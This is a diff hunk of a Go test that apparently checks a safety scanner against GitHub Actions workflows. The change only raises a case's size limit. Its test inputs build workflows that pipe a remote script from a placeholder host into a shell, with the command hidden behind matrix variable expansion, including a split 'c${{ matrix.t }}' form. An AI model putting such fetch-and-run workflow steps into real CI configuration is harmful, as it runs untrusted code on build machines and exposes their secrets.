@@ -141,7 +141,7 @@ func TestTextsBehindABoundAreNeverSafe(t *testing.T) {
 		}, 12, nil},
 		{"values of a name", ".github/workflows/a.yml", func(n int) string {
 			return "on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        t: [" + counted(n, "x%d, ") + "sh]\n    steps:\n      - run: curl -fsS http://get.example.com/s.sh | ${{ matrix.t }}\n"
-		}, 80, nil},
+		}, 300, nil},
 		{"ways to choose values", ".github/workflows/a.yml", func(n int) string {
 			return "on: push\njobs:\n  a:\n    runs-on: x\n    strategy:\n      matrix:\n        t: [" + counted(n, "x%d, ") + "url]\n        u: [" + counted(n, "y%d, ") + "h]\n    steps:\n      - run: c${{ matrix.t }} -fsS http://get.example.com/s.sh | s${{ matrix.u }}\n"
 		}, 29, nil},
